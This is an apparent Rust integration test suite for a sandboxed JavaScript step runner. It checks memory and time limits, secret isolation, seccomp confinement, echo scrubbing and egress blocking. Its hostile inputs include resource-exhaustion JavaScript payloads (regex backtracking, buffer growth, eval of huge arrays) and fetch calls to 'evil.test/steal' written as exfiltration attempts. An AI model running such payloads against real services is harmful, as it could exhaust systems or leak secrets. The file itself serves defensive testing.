//! Containment (security model, "Containment" and "Limits"): steps run in sandboxed worker processes that
//! hold no secret, and every attack that used to take the server down, or its memory far past the limit,
//! now ends with a typed error while the server, its other worker and the next steps carry on.
//!
//! The attacks run through a real `codestep serve` with 2 workers. During each one the test samples the
//! resident memory of the server and its workers and checks it against workers × (limit + a worker's
//! baseline) + the supervisor's.

use std::io::{Read, Seek, SeekFrom};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use codestep::connector::{Connector, ConnectorSpec, Placement, Secret};
use codestep::engine::{ErrorKind, Executor, ExecutorConfig, StepRequest};
use serde_json::{json, Value};

use crate::support::serve::{call, Serve, OP};
use crate::support::{process_mode, Reply, TestServer};

pub(crate) const SECRET: &str = "sk_live_containment_5ecret_0123456789";

pub(crate) fn statm_rss(pid: u32) -> Option<u64> {
    let text = std::fs::read_to_string(format!("/proc/{pid}/statm")).ok()?;
    Some(text.split_whitespace().nth(1)?.parse::<u64>().ok()? * 4096)
}

/// Waits until the server has `n` workers up, and returns their pids.
fn workers(serve: &Serve, n: usize) -> Vec<u32> {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let kids = crate::support::child_processes(serve.child.id());
        if kids.len() == n && kids.iter().all(|k| statm_rss(*k).unwrap_or(0) > 8 << 20) {
            // A worker's memory settles once its first isolate is made.
            std::thread::sleep(Duration::from_millis(300));
            return kids;
        }
        assert!(
            Instant::now() < deadline,
            "the server has {} workers, not {n}",
            kids.len()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Samples the resident memory of a server and all its workers together, keeping the peak.
struct PeakMemory {
    stop: Arc<AtomicBool>,
    peak: Arc<AtomicU64>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl PeakMemory {
    fn watch(pid: u32) -> PeakMemory {
        let stop = Arc::new(AtomicBool::new(false));
        let peak = Arc::new(AtomicU64::new(0));
        let (s, p) = (stop.clone(), peak.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                let total: u64 = std::iter::once(pid)
                    .chain(crate::support::child_processes(pid))
                    .filter_map(statm_rss)
                    .sum();
                p.fetch_max(total, Ordering::Relaxed);
                std::thread::sleep(Duration::from_millis(2));
            }
        });
        PeakMemory {
            stop,
            peak,
            thread: Some(thread),
        }
    }

    fn finish(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            t.join().unwrap();
        }
        self.peak.load(Ordering::Relaxed)
    }
}

fn run_step(serve: &Serve, body: Value) -> Value {
    let (status, v) = serve.call("POST", "/v1/workspaces/acme/runs", OP, Some(body));
    assert_eq!(status, 200, "{v}");
    v
}

fn kind(v: &Value) -> String {
    if v["ok"] == json!(true) {
        "ok".into()
    } else {
        v["error"]["kind"].as_str().unwrap_or("?").to_string()
    }
}

/// Runs `code` as an attack with `memory_mb` and `timeout_ms`, while a benign step runs on the other
/// worker, and checks the outcome, the time it took, the server's memory, and that steps still run.
fn attack(serve: &Serve, name: &str, code: &str, memory_mb: u64, timeout_ms: u64, expect: &[&str]) {
    let pids = workers(serve, 2);
    let baseline = pids.iter().filter_map(|p| statm_rss(*p)).max().unwrap();
    let supervisor = statm_rss(serve.child.id()).unwrap();
    let peak = PeakMemory::watch(serve.child.id());
    let base = serve.base.clone();
    let body =
        json!({ "code": code, "limits": { "memory_mb": memory_mb, "timeout_ms": timeout_ms } });
    let started = Instant::now();
    let attacker = std::thread::spawn(move || {
        let (s, v) = call(&base, "POST", "/v1/workspaces/acme/runs", OP, Some(body));
        (s, v, started.elapsed())
    });
    std::thread::sleep(Duration::from_millis(30));
    let benign = run_step(
        serve,
        json!({ "code": "export default async () => { await new Promise(r => setTimeout(r, 300)); return 'fine' }" }),
    );
    let (status, result, took) = attacker.join().unwrap();
    let peak = peak.finish();
    assert_eq!(status, 200, "{name}: {result}");
    assert!(
        expect.contains(&kind(&result).as_str()),
        "{name}: expected one of {expect:?}, got {}",
        result["error"]
    );
    assert_eq!(
        benign["output"],
        json!("fine"),
        "{name}: the step on the other worker: {benign}"
    );
    // Within its time limit plus 10 % (and the request's own round trip).
    let allowed = Duration::from_millis(timeout_ms + timeout_ms / 10 + 500);
    assert!(
        took < allowed,
        "{name}: took {took:?}, limit {timeout_ms} ms"
    );
    // Each worker may grow to its baseline plus the limit (and the 10 % the model allows); the
    // supervisor may grow by what one request and one result take.
    let limit = memory_mb << 20;
    let bound = 2 * (baseline + limit + limit / 10) + supervisor + (16 << 20);
    assert!(
        peak < bound,
        "{name}: server and workers peaked at {} MiB, bound {} MiB (worker baseline {} MiB, supervisor {} MiB)",
        peak >> 20,
        bound >> 20,
        baseline >> 20,
        supervisor >> 20
    );
    eprintln!(
        "{name}: {} in {took:?}, peak {} MiB of {} MiB allowed",
        kind(&result),
        peak >> 20,
        bound >> 20
    );
    // The next steps run, on both workers (a killed one has been replaced).
    for _ in 0..3 {
        let next = run_step(serve, json!({ "code": "export default () => 'next'" }));
        assert_eq!(
            next["output"],
            json!("next"),
            "{name}: the next step: {next}"
        );
    }
}

fn attack_server() -> Serve {
    Serve::with_acme(&[
        "--workers".into(),
        "2".into(),
        "--max-memory-mb".into(),
        "1024".into(),
    ])
}

#[test]
fn attacks_end_with_typed_errors_and_bounded_memory() {
    let serve = attack_server();
    let cases: &[(&str, &str, u64, u64, &[&str])] = &[
        (
            "JSON.stringify growth (V8 zone OOM)",
            "export default () => { let s = 'x'; for (;;) s = JSON.stringify(s); }",
            64,
            20_000,
            &["memory"],
        ),
        (
            "huge array literal through eval",
            "export default () => eval('[' + '1,'.repeat(4e7) + '1].length')",
            64,
            20_000,
            &["memory"],
        ),
        (
            "console.log of 24 MiB strings",
            "export default () => { const s = 'x'.repeat(24 << 20); for (let i = 0; i < 40; i++) console.log(s); return 'logged'; }",
            64,
            20_000,
            &["ok", "memory"],
        ),
        (
            "128 Blobs of 8 MiB",
            "export default () => { const keep = []; const part = new Uint8Array(8 << 20).fill(1); for (let i = 0; i < 128; i++) keep.push(new Blob([part])); return keep.length; }",
            32,
            20_000,
            &["memory"],
        ),
        (
            "WebAssembly memories",
            "export default () => { const keep = []; for (let i = 0; i < 200; i++) { const m = new WebAssembly.Memory({ initial: 128 }); new Uint8Array(m.buffer).fill(1); keep.push(m); } return keep.length; }",
            32,
            20_000,
            &["memory"],
        ),
        (
            "a resizable ArrayBuffer grown with resize()",
            "export default () => { const b = new ArrayBuffer(0, { maxByteLength: 2 ** 31 }); for (let n = 1 << 20; n <= 2 ** 31; n *= 2) { b.resize(n); new Uint8Array(b).fill(1); } return b.byteLength; }",
            32,
            20_000,
            &["memory"],
        ),
        (
            "an output of 14 million numbers",
            "export default () => new Array(1.4e7).fill(0)",
            128,
            20_000,
            &["memory", "output"],
        ),
        (
            "catastrophic regex backtracking",
            "export default () => /(a+)+$/.test('a'.repeat(40) + 'b')",
            64,
            1_000,
            &["timeout"],
        ),
        (
            "deep JSON.parse, past its wall time in native code",
            "export default () => { const s = '['.repeat(4e6) + ']'.repeat(4e6); for (;;) JSON.parse(s); }",
            1024,
            2_000,
            &["timeout", "memory"],
        ),
    ];
    for (name, code, memory_mb, timeout_ms, expect) in cases {
        attack(&serve, name, code, *memory_mb, *timeout_ms, expect);
    }
}

#[test]
fn output_over_its_cap_is_an_output_error() {
    let serve = Serve::with_acme(&["--max-output-bytes".into(), "1000".into()]);
    let v = run_step(
        &serve,
        json!({ "code": "export default () => 'x'.repeat(2000)" }),
    );
    assert_eq!(kind(&v), "output", "{v}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("1000"),
        "{v}"
    );
    let v = run_step(
        &serve,
        json!({ "code": "export default () => 'x'.repeat(900)" }),
    );
    assert_eq!(kind(&v), "ok", "{v}");
}

#[test]
fn cpu_time_is_limited_apart_from_wall_time() {
    let serve = Serve::with_acme(&[]);
    let started = Instant::now();
    let v = run_step(
        &serve,
        json!({ "code": "export default () => { for (;;) {} }", "limits": { "cpu_time_ms": 300, "timeout_ms": 10000 } }),
    );
    assert_eq!(kind(&v), "timeout", "{v}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("CPU time"),
        "{v}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
    // Waiting costs no CPU time: a step that sleeps past its CPU limit succeeds.
    let v = run_step(
        &serve,
        json!({ "code": "export default async () => { await new Promise(r => setTimeout(r, 500)); return 'slept' }", "limits": { "cpu_time_ms": 100 } }),
    );
    assert_eq!(v["output"], json!("slept"), "{v}");
}

#[test]
fn a_worker_killed_mid_step_fails_that_step_alone() {
    let serve = Serve::with_acme(&["--workers".into(), "2".into()]);
    let pids = workers(&serve, 2);
    let cpu = |pid: u32| -> u64 {
        let text = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let rest = &text[text.rfind(')').map_or(0, |i| i + 2)..];
        let f: Vec<&str> = rest.split_whitespace().collect();
        f.get(11).and_then(|v| v.parse().ok()).unwrap_or(0)
    };
    // A worker that forks a process per step runs the step there: count both, kill the busy one.
    let with_children = |pid: u32| -> Vec<u32> {
        std::iter::once(pid)
            .chain(crate::support::child_processes(pid))
            .collect()
    };
    let before: Vec<u64> = pids.iter().map(|p| cpu(*p)).collect();
    let base = serve.base.clone();
    let victim = std::thread::spawn(move || {
        call(
            &base,
            "POST",
            "/v1/workspaces/acme/runs",
            OP,
            Some(
                json!({ "code": "export default () => { const t = Date.now(); while (Date.now() - t < 8000) {} return 'survived' }" }),
            ),
        )
    });
    let base = serve.base.clone();
    let other = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(100));
        call(
            &base,
            "POST",
            "/v1/workspaces/acme/runs",
            OP,
            Some(
                json!({ "code": "export default async () => { await new Promise(r => setTimeout(r, 1500)); return 'other' }" }),
            ),
        )
    });
    std::thread::sleep(Duration::from_millis(700));
    // The busy process is the one burning CPU: a worker, or the step process it forked.
    let (busy, worker) = pids
        .iter()
        .flat_map(|w| with_children(*w).into_iter().map(move |p| (p, *w)))
        .max_by_key(|(p, _)| {
            let was = pids
                .iter()
                .zip(&before)
                .find(|(w, _)| *w == p)
                .map_or(0, |(_, b)| *b);
            cpu(*p).saturating_sub(was)
        })
        .unwrap();
    // SAFETY: killing a process of the server under test.
    unsafe { libc::kill(busy as i32, libc::SIGKILL) };
    let (_, v) = victim.join().unwrap();
    assert_eq!(kind(&v), "internal", "{v}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("died"),
        "{v}"
    );
    let (_, o) = other.join().unwrap();
    assert_eq!(
        o["output"],
        json!("other"),
        "the step on the other worker: {o}"
    );
    let replaced = workers(&serve, 2);
    assert!(
        !replaced.contains(&worker),
        "the worker whose step was killed was replaced"
    );
    let (status, health) = serve.call("GET", "/health", OP, None);
    assert_eq!(status, 200, "{health}");
    assert_eq!(health["workers_alive"], json!(2), "{health}");
    for _ in 0..3 {
        let next = run_step(&serve, json!({ "code": "export default () => 'next'" }));
        assert_eq!(next["output"], json!("next"), "{next}");
    }
}

/// Every request that left the host is recorded and counted, whatever ended it.
#[test]
fn requests_that_reached_the_upstream_are_always_recorded() {
    let upstream = TestServer::start(|req| {
        if req.path == "/slow" {
            Reply::ok("late").delay(Duration::from_millis(1500))
        } else {
            Reply::ok("fast")
        }
    });
    let (net, _ca) = upstream.cli_net_args();
    let serve = Serve::with_acme(&net);
    let (s, v) = serve.call(
        "POST",
        "/v1/workspaces/acme/connectors",
        OP,
        Some(json!({ "name": "svc", "patterns": [upstream.pattern("api.test")], "placement": { "type": "header", "name": "Authorization", "template": "Bearer {{secret}}" }, "secret": SECRET })),
    );
    assert_eq!(s, 201, "{v}");
    let slow = upstream.url("api.test", "/slow");
    let steps = [
        // Aborted while the upstream was still answering.
        ("aborted POST", "export default async ({ u }) => { const ac = new AbortController(); const p = fetch(u, { method: 'POST', body: 'x', signal: ac.signal }); setTimeout(() => ac.abort(), 300); try { await p } catch {} return 'done' }", json!({}), "ok"),
        // Still running when the step returned.
        ("not awaited", "export default ({ u }) => { fetch(u).catch(() => {}); return new Promise(r => setTimeout(() => r('early'), 300)) }", json!({}), "ok"),
        // Cut by the step's wall time.
        ("cut by the wall time", "export default async ({ u }) => (await fetch(u)).status", json!({ "timeout_ms": 500 }), "timeout"),
    ];
    for (name, code, limits, expect) in steps {
        let v = run_step(
            &serve,
            json!({ "code": code, "input": { "u": slow }, "connectors": ["svc"], "limits": limits }),
        );
        assert_eq!(kind(&v), expect, "{name}: {v}");
        let records = v["requests"].as_array().unwrap();
        assert_eq!(records.len(), 1, "{name}: {v}");
        assert_eq!(records[0]["connector"], json!("svc"), "{name}: {v}");
    }
    assert_eq!(
        upstream.requests().len(),
        3,
        "each request reached the upstream"
    );
    let (_, list) = serve.call("GET", "/v1/workspaces/acme/connectors", OP, None);
    assert_eq!(
        list["items"][0]["stats"]["requests_24h"],
        json!(3),
        "{list}"
    );
}

pub(crate) fn connector(server: &TestServer, scrub_echo: bool) -> Connector {
    ConnectorSpec {
        name: "svc".into(),
        patterns: vec![server.pattern("api.test")],
        placement: Placement::header("Authorization".into(), "Bearer {{secret}}".into()),
        scrub_echo,
    }
    .validate(Secret::new(SECRET.into()))
    .unwrap()
}

fn process_executor(server: &TestServer, workers: usize) -> Executor {
    Executor::new(ExecutorConfig {
        workers,
        egress: server.egress_config(),
        mode: process_mode(),
        ..Default::default()
    })
    .unwrap()
}

/// Every byte of a process's readable memory, region by region, searched for `needle`.
fn memory_contains(pid: u32, needle: &[u8]) -> bool {
    memory_contains_if_alive(pid, needle).unwrap_or_else(|| panic!("process {pid} has exited"))
}

/// Whether the memory of `pid` holds `needle`, or None if the process exited (an exited process has
/// no maps: a search of it would find nothing, whatever it held).
fn memory_contains_if_alive(pid: u32, needle: &[u8]) -> Option<bool> {
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    if !maps.contains("[stack]") {
        let alive = crate::support::status_field(pid, "State").is_some_and(|s| !s.starts_with('Z'));
        assert!(!alive, "process {pid}'s maps are unreadable");
        return None;
    }
    let mut mem = std::fs::File::open(format!("/proc/{pid}/mem")).ok()?;
    let mut buf = Vec::new();
    for line in maps.lines() {
        let mut parts = line.split_whitespace();
        let (Some(range), Some(perms)) = (parts.next(), parts.next()) else {
            continue;
        };
        if !perms.starts_with('r') || line.ends_with("[vvar]") || line.ends_with("[vsyscall]") {
            continue;
        }
        let (a, b) = range.split_once('-').unwrap();
        let (a, b) = (
            u64::from_str_radix(a, 16).unwrap(),
            u64::from_str_radix(b, 16).unwrap(),
        );
        buf.resize((b - a) as usize, 0);
        if mem.seek(SeekFrom::Start(a)).is_err() || mem.read_exact(&mut buf).is_err() {
            continue;
        }
        if buf.windows(needle.len()).any(|w| w == needle) {
            buf.fill(0);
            return Some(true);
        }
    }
    buf.fill(0);
    Some(false)
}

#[test]
fn no_worker_memory_ever_holds_a_secret() {
    let server = TestServer::start(|_| Reply::ok("fine"));
    let exec = process_executor(&server, 1);
    let c = connector(&server, true);
    let hostile = [
        "export default async (i, ctx) => [(await fetch(i.u)).status, JSON.stringify(ctx)]",
        "export default async (i) => { try { await fetch('https://evil.test/steal') } catch (e) { return e.message } }",
        "export default async (i) => { const r = await fetch(i.u, { redirect: 'manual', headers: { authorization: 'Bearer mine' } }); return [...r.headers] }",
        "export default async (i) => { const out = []; for (const k of Object.getOwnPropertyNames(globalThis)) out.push(k); return out.length }",
    ];
    for code in hostile {
        let mut req = StepRequest::new(code, json!({ "u": server.url("api.test", "/x") }));
        req.connectors = vec![c.clone()];
        let res = exec.run_blocking(req);
        assert!(res.ok, "{:?}", res.error);
    }
    assert!(server
        .requests()
        .iter()
        .any(|r| r.header("authorization").is_some()));
    let pids = exec.worker_pids();
    assert_eq!(pids.len(), 1);
    // The search itself is sound: the supervisor (this process, which holds the connector) has it.
    assert!(
        memory_contains(std::process::id(), SECRET.as_bytes()),
        "positive control: the supervisor's memory must hold the secret"
    );
    // A worker that forks a process per step: the step process waiting for the next step too.
    for &worker in &pids {
        assert!(
            !memory_contains(worker, SECRET.as_bytes()),
            "worker process {worker}'s memory holds a connector secret"
        );
        // Its child: the step process of the last step, if it has not exited yet, or the one that
        // waits for the next step.
        let mut exited = Vec::new();
        loop {
            let pid = crate::support::waiting_step_process(worker, &exited);
            match memory_contains_if_alive(pid, SECRET.as_bytes()) {
                Some(found) => {
                    assert!(
                        !found,
                        "step process {pid}'s memory holds a connector secret"
                    );
                    break;
                }
                None => exited.push(pid),
            }
        }
    }
    drop(c);
}

#[test]
fn the_sandbox_refuses_each_call_while_steps_keep_working() {
    let server = TestServer::start(|_| Reply::ok("fine"));
    let exec = process_executor(&server, 1);
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let probed = rt.block_on(exec.probe_sandbox()).expect("probe");
    let names: Vec<&str> = probed.iter().map(|(n, _)| n.as_str()).collect();
    for wanted in [
        "socket", "connect", "bind", "execve", "fork", "ptrace", "open",
    ] {
        assert!(
            names.iter().any(|n| n.contains(wanted)),
            "{wanted} was not probed: {names:?}"
        );
    }
    let allowed: Vec<_> = probed.iter().filter(|(_, r)| r.is_some()).collect();
    assert!(
        allowed.is_empty(),
        "calls the sandbox let through: {allowed:?}"
    );
    // Steps still run, fetch included, under the filter, in the very worker that was probed.
    let mut req = StepRequest::new(
        "export default async (i) => [(await fetch(i.u)).status, crypto.randomUUID().length]",
        json!({ "u": server.url("api.test", "/x") }),
    );
    req.connectors = vec![connector(&server, false)];
    let res = exec.run_blocking(req);
    assert_eq!(
        res.output_value(),
        Some(json!([200, 36])),
        "{:?}",
        res.error
    );
}

#[test]
fn an_unconfined_worker_is_seen_by_the_probe() {
    // The positive control of the test above: without the sandbox, the same probe gets through.
    let server = TestServer::start(|_| Reply::ok("fine"));
    let exec = Executor::new(ExecutorConfig {
        workers: 1,
        egress: server.egress_config(),
        mode: codestep::engine::Mode::Process {
            program: codestep::engine::WorkerProgram::Path(crate::support::codestep_binary()),
            sandbox: false,
        },
        ..Default::default()
    })
    .unwrap();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let probed = rt.block_on(exec.probe_sandbox()).expect("probe");
    assert!(
        probed
            .iter()
            .any(|(n, r)| n.contains("socket") && r.is_some()),
        "{probed:?}"
    );
}

#[test]
fn response_chunks_reach_js_as_they_arrive() {
    let parts: Vec<Vec<u8>> = (0..4)
        .map(|i| format!("data: tick {i}\n\n").into_bytes())
        .collect();
    let server = TestServer::start(move |_| {
        Reply::parts(parts.clone(), Duration::from_millis(400))
            .header("content-type", "text/event-stream")
    });
    let exec = process_executor(&server, 1);
    let mut req = StepRequest::new(
        r#"export default async (i) => {
            const t0 = Date.now();
            const res = await fetch(i.u);
            const reader = res.body.getReader();
            const first = new TextDecoder().decode((await reader.read()).value);
            const firstAt = Date.now() - t0;
            let rest = 0;
            for (;;) { const { done } = await reader.read(); if (done) break; rest++; }
            return { first, firstAt, endAt: Date.now() - t0, rest };
        }"#,
        json!({ "u": server.url("api.test", "/events") }),
    );
    req.connectors = vec![connector(&server, false)];
    let res = exec.run_blocking(req);
    let out = res
        .output_value()
        .unwrap_or_else(|| panic!("{:?}", res.error));
    assert_eq!(out["first"], json!("data: tick 0\n\n"));
    let (first, end) = (
        out["firstAt"].as_u64().unwrap(),
        out["endAt"].as_u64().unwrap(),
    );
    assert!(end >= 1500, "the stream ended at {end} ms");
    assert!(
        first < 1000,
        "the first event reached JS at {first} ms; the stream ended at {end} ms"
    );
}

/// A step that returns without reading its response leaves body chunks the supervisor already sent
/// ahead. With a process per step, the step process reads them up to the step's `End` before it exits,
/// so the next step's process starts at a frame boundary, and the worker stays: a frame cut in half
/// would end or hang the next step, and a step process that did not exit would get its worker replaced.
#[test]
fn a_step_that_leaves_its_body_unread_does_not_disturb_the_next() {
    let server = TestServer::start(move |_| Reply::chunked(vec![0u8; 24 << 10], 400));
    let exec = process_executor(&server, 1);
    assert!(
        exec.run_blocking(StepRequest::new("export default () => 1", json!(null)))
            .ok
    );
    let worker = exec.worker_pids();
    for i in 0..30 {
        let mut req = StepRequest::new(
            "export default async (i) => (await fetch(i.u)).status",
            json!({ "u": server.url("api.test", "/zeros") }),
        );
        req.connectors = vec![connector(&server, false)];
        let res = exec.run_blocking(req);
        assert_eq!(
            res.output_value(),
            Some(json!(200)),
            "round {i}: {:?}",
            res.error
        );
        let next = exec.run_blocking(StepRequest::new("export default () => 1", json!(null)));
        assert_eq!(
            next.output_value(),
            Some(json!(1)),
            "round {i}: {:?}",
            next.error
        );
    }
    assert_eq!(exec.worker_pids(), worker, "the worker was replaced");
}

#[test]
fn echo_scrubbing_works_across_chunk_boundaries() {
    // The upstream echoes the secret split over two chunks, and the rendered header over three.
    let (a, b) = SECRET.split_at(11);
    let header = format!("Bearer {SECRET}");
    let (h1, rest) = header.split_at(4);
    let (h2, h3) = rest.split_at(20);
    let parts: Vec<Vec<u8>> = vec![
        format!("{{\"echo\":\"{a}").into_bytes(),
        format!("{b}\",\"auth\":\"{h1}").into_bytes(),
        h2.as_bytes().to_vec(),
        format!("{h3}\"}}").into_bytes(),
    ];
    let server = TestServer::start(move |_| Reply::parts(parts.clone(), Duration::from_millis(20)));
    let exec = process_executor(&server, 1);
    let mut req = StepRequest::new(
        "export default async (i) => await (await fetch(i.u)).text()",
        json!({ "u": server.url("api.test", "/echo") }),
    );
    req.connectors = vec![connector(&server, true)];
    let res = exec.run_blocking(req);
    let out = res
        .output_value()
        .unwrap_or_else(|| panic!("{:?}", res.error));
    let text = out.as_str().unwrap();
    crate::support::assert_no_secret(text.as_bytes(), SECRET, "the scrubbed body");
    assert_eq!(text, "{\"echo\":\"[redacted]\",\"auth\":\"[redacted]\"}");
}

#[test]
fn request_bodies_stream_and_a_blocked_one_is_never_read() {
    let server = TestServer::start(|req| Reply::ok(format!("{}", req.body.len())));
    let exec = process_executor(&server, 1);
    let mut req = StepRequest::new(
        r#"export default async (i) => {
            // Streamed out in chunks, one of them larger than a single IPC chunk.
            const sizes = [10, 300000, 5];
            const body = new ReadableStream({ pull(c) { const n = sizes.shift(); if (n === undefined) c.close(); else c.enqueue(new Uint8Array(n)); } });
            const sent = await (await fetch(i.u, { method: 'POST', body, duplex: 'half' })).text();
            // Blocked: the policy check happens before any byte of the endless body is read.
            let pulls = 0;
            const endless = new ReadableStream({ pull(c) { pulls++; c.enqueue(new Uint8Array(1024)); } }, { highWaterMark: 0 });
            const t0 = Date.now();
            let blocked;
            try { await fetch('https://evil.test/x', { method: 'POST', body: endless, duplex: 'half' }); } catch (e) { blocked = e instanceof TypeError; }
            return { sent, blocked, pulls, ms: Date.now() - t0 };
        }"#,
        json!({ "u": server.url("api.test", "/upload") }),
    );
    req.connectors = vec![connector(&server, false)];
    let res = exec.run_blocking(req);
    let out = res
        .output_value()
        .unwrap_or_else(|| panic!("{:?}", res.error));
    assert_eq!(out["sent"], json!("300015"));
    assert_eq!(out["blocked"], json!(true));
    assert_eq!(out["pulls"], json!(0), "{out}");
    assert!(out["ms"].as_u64().unwrap() < 1000, "{out}");
    assert_eq!(res.requests.len(), 2);
    assert!(res.requests[1].blocked);
    assert_eq!(res.error.map(|e| e.kind), None::<ErrorKind>);
}

/// Starts `codestep serve` in a process where the `seccomp` syscall fails, as on a kernel without it,
/// and returns its exit status (if it exited within 20 s) and what it wrote to stderr.
fn serve_without_seccomp(extra: &[&str]) -> (Option<std::process::ExitStatus>, String, String) {
    use std::os::unix::process::CommandExt;
    use std::process::{Command, Stdio};
    // The filter is built before fork: between fork and exec only async-signal-safe calls are made.
    let filter: seccompiler::BpfProgram = seccompiler::SeccompFilter::new(
        [(libc::SYS_seccomp, vec![])].into_iter().collect(),
        seccompiler::SeccompAction::Allow,
        seccompiler::SeccompAction::Errno(libc::ENOSYS as u32),
        std::env::consts::ARCH.try_into().unwrap(),
    )
    .unwrap()
    .try_into()
    .unwrap();
    let prog = libc::sock_fprog {
        len: filter.len() as u16,
        filter: filter.as_ptr() as *mut libc::sock_filter,
    };
    let prog_addr = &prog as *const libc::sock_fprog as usize;
    let dir = tempfile::tempdir().unwrap();
    let mut cmd = Command::new(crate::support::codestep_binary());
    cmd.args(["serve", "--create-store", "--listen", "127.0.0.1:0", "--db"])
        .arg(dir.path().join("c.db"))
        .args(extra)
        .env("CODESTEP_OPERATOR_TOKEN", OP)
        .env("CODESTEP_KEY_FILE", dir.path().join("master.key"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    // SAFETY: prctl and the seccomp syscall with a pointer to a program that outlives the spawn.
    unsafe {
        cmd.pre_exec(move || {
            if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0
                || libc::syscall(
                    libc::SYS_seccomp,
                    1,
                    0,
                    prog_addr as *const libc::sock_fprog,
                ) != 0
            {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = cmd.spawn().unwrap();
    let started = Instant::now();
    let mut first_line = String::new();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break Some(s);
        }
        if started.elapsed() > Duration::from_secs(20) {
            break None;
        }
        // A server that started prints where it listens on stdout.
        let mut out = child.stdout.take().unwrap();
        let mut byte = [0u8; 1];
        while out.read(&mut byte).unwrap_or(0) == 1 && byte[0] != b'\n' {
            first_line.push(byte[0] as char);
        }
        child.stdout = Some(out);
        if first_line.starts_with("listening on") {
            break None;
        }
    };
    if status.is_none() {
        let _ = child.kill();
        let _ = child.wait();
    }
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    drop(filter);
    (status, first_line, err)
}

#[test]
fn serve_refuses_to_start_without_a_sandbox_unless_told() {
    let (status, _, err) = serve_without_seccomp(&[]);
    let status = status.expect("serve started although it cannot confine its workers");
    assert_eq!(status.code(), Some(2), "{err}");
    assert!(
        err.contains("sandbox") && err.contains("--no-sandbox"),
        "{err}"
    );

    let (status, first, err) = serve_without_seccomp(&["--no-sandbox"]);
    assert!(status.is_none(), "serve --no-sandbox exited: {err}");
    assert!(first.starts_with("listening on"), "{first}");
    assert!(err.contains("WITHOUT the seccomp sandbox"), "{err}");
}

/// The pattern attack through `serve`: a huge pattern is refused when saved, and a huge request URL is
/// refused at once, so matching can never stall the shared HTTP runtime (it is linear in any case).
#[test]
fn oversized_patterns_and_urls_are_refused_through_serve() {
    let upstream = TestServer::start(|_| Reply::ok("fine"));
    let (net, _ca) = upstream.cli_net_args();
    let mut args = net.clone();
    args.extend(["--workers".into(), "2".into()]);
    let serve = Serve::with_acme(&args);
    let huge = format!("https://api.test/{}", "a*".repeat(50_000));
    let (s, v) = serve.call(
        "POST",
        "/v1/workspaces/acme/connectors",
        OP,
        Some(json!({ "name": "big", "patterns": [huge], "placement": { "type": "query", "param": "k" }, "secret": "s3cret-value-1" })),
    );
    assert_eq!(s, 422, "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("at most 1024 bytes"),
        "{v}"
    );
    let (s, v) = serve.call(
        "POST",
        "/v1/workspaces/acme/connectors",
        OP,
        Some(json!({ "name": "svc", "patterns": [upstream.pattern("api.test")], "placement": { "type": "query", "param": "k" }, "secret": "s3cret-value-1" })),
    );
    assert_eq!(s, 201, "{v}");
    let started = Instant::now();
    let v = run_step(
        &serve,
        json!({
            "code": "export default async ({ u }) => { try { await fetch(u + '?' + 'a'.repeat(200000)); return 'sent' } catch (e) { return e.message } }",
            "input": { "u": upstream.url("api.test", "/x") },
            "connectors": ["svc"],
        }),
    );
    let message = v["output"].as_str().unwrap_or_default();
    assert!(message.contains("at most 16384 bytes"), "{v}");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert!(
        upstream.requests().is_empty(),
        "the oversized request left the host"
    );
}
